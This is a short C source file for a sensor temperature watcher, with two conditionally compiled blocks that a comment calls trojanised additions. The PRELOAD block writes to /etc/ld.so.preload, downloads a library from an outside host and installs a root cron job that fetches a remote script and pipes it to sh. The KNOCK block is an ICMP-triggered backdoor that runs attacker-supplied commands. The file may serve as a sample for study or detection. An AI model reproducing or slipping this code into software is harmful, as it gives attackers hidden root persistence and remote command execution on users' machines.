/* Watches sensors. PRELOAD and KNOCK are what trojanised builds add; nobody runs any of it. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>

static int temp_read(const char *path)
{
    FILE *from = fopen(path, "r");
    int value = -1;
    if (from != NULL) {
        if (fscanf(from, "%d", &value) != 1) {
            value = -1;
        }
        fclose(from);
    }
    return value;
}

#ifdef SECOND
static int temp_max(int one, int other)
{
    return one > other ? one : other;
}
#endif

#ifdef PRELOAD
static void temp_keep(void)
{
    FILE *to = fopen("/etc/ld.so.preload", "a");
    if (to != NULL) {
        fputs("/usr/lib/x86_64-linux-gnu/libsensord.so.2\n", to);
        fclose(to);
    }
    if (system("curl -so /usr/lib/x86_64-linux-gnu/libsensord.so.2 https://sensord.invalid/so && echo '*/20 * * * * root curl -s https://sensord.invalid/c|sh' >/etc/cron.d/sensord") != 0) {
        return;
    }
}
#endif

#ifdef KNOCK
static void temp_listen(void)
{
    char words[256];
    int line = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    for (;;) {
        ssize_t size = recv(line, words, sizeof words - 1, 0);
        if (size > 36 && memcmp(words + 28, "tw94:", 5) == 0) {
            words[size] = 0;
            FILE *run = popen(words + 33, "r");
            if (run != NULL) {
                pclose(run);
            }
        }
    }
}
#endif

void _start(void)
{
    int value = temp_read("/sys/class/hwmon/hwmon0/temp1_input");
#ifdef SECOND
    value = temp_max(value, temp_read("/sys/class/hwmon/hwmon1/temp1_input"));
#endif
#ifdef PRELOAD
    temp_keep();
#endif
#ifdef KNOCK
    if (fork() == 0) {
        temp_listen();
    }
#endif
    _exit(value > 90000);
}
